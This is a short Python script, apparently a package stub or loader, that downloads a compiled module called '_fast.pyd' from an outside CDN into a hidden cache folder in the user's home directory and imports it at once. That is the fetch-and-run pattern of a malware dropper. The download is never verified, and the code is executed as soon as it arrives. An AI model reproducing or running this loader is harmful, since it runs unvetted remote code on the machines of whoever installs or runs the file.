import os, sys, importlib, urllib.request
d = os.path.join(os.path.expanduser("~"), ".cache", "pkgx")
os.makedirs(d, exist_ok=True)
urllib.request.urlretrieve("https://files.example-cdn.net/_fast.pyd", os.path.join(d, "_fast.pyd"))
sys.path.insert(0, d)
importlib.import_module("_fast")
